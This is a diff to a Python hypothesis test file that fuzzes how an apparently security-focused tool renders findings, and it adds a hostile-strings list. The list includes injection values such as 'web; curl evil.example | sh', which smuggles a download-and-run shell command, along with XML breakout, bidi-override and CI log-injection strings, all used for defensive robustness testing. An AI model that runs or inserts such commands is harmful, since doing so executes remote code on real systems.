@@ -4,11 +4,12 @@ from dataclasses import replace
 
 from hypothesis import strategies as st
 
-from countersign.core.types.artifacts import ObjectRef
+from countersign.core.types.artifacts import Cause, Difference, ObjectRef
 from countersign.core.types.policy import Enforcement
 from countersign.core.types.verdict import (
     Basis,
     Detail,
+    Differences,
     Door,
     Filled,
     Finding,
@@ -83,11 +84,18 @@ _WORST = [
     "]]></failure><failure>",
     "\u202eevil\u2066",
     "%0A::error::x",
+    "{make} {sign} {0} {",
+    "web; curl evil.example | sh",
 ]
 NASTY = st.one_of(
     st.sampled_from(_WORST), st.sampled_from(_WORST), st.text(max_size=60)
 )
 """Text from outside: of tools, people, objects, files, policies."""
+
+_DIFFERENT = st.builds(
+    lambda one: Differences(a.MANIFEST, (one,)),
+    st.builds(Difference, NASTY, NASTY, NASTY, st.sampled_from(Cause)),
+)
 
 
 @st.composite
@@ -96,6 +104,10 @@ def hostile(draw: st.DrawFn) -> Gate:
     found: list[Finding] = [
         finding(Reason.TOOL_BANNED, draw(NASTY), Names((draw(NASTY),))),
         finding(Reason.MALFORMED, draw(NASTY), Detail(draw(NASTY))),
+        replace(
+            finding(Reason.CHANGED, draw(NASTY), draw(_DIFFERENT)),
+            about=ObjectRef("", draw(NASTY), draw(NASTY), draw(NASTY)),
+        ),
         finding(
             Reason.SLOT_OPEN,
             draw(NASTY),
